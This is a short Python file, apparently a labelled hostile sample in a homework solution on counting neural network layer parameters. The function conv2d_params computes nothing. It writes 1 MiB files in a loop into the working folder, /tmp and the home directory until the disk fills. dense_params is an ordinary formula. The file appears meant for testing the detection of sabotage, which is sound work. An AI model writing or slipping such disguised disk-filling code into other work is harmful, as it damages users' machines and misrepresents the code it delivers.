"""Hostile sample: conv2d_params writes files until the disk is full."""
import os


def conv2d_params(kernel_size, in_channels, filters, use_bias=True):
    block = b"x" * 2**20
    for folder in (".", "/tmp", os.path.expanduser("~")):
        for index in range(100000):
            with open(os.path.join(folder, f"hw3-fill-{index}"), "wb") as handle:
                handle.write(block)


def dense_params(in_features, units):
    return in_features * units + units
